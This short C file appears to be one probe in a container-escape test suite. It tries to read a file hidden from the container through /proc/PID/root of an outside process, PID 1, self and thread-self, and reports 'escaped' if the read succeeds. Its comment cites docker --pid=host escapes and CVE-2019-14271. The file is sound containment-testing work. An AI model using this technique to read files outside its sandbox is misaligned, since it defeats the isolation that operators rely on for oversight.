/*
 * Idea: /proc/PID/root and /proc/PID/cwd are not links but doors: they lead to the file system as that process sees
 * it, whatever hides it from us.
 * Incident: the standard way out of "docker run --pid=host"; CVE-2019-14271 (docker cp) used the door inwards.
 * Success: a file that is hidden from us is read through the outsider's root.
 * Usage: outsider-root PID SECRET
 */
#include "attempt.h"

int main(int argc, char **argv) {
  const char *outsider = argument(argc, argv, 1, "the process id of an outsider");
  const char *secret = argument(argc, argv, 2, "path of a file that we cannot see");
  const char *pids[] = {outsider, "1", "self", "thread-self"};
  char path[512], line[256];
  for (size_t i = 0; i < sizeof pids / sizeof *pids; i++) {
    snprintf(path, sizeof path, "/proc/%s/root%s", pids[i], secret);
    if (read_line_at(AT_FDCWD, path, line, sizeof line) == 0) escaped("read \"%s\" through %s", line, path);
    stopped("open %s", path);
  }
  contained();
}
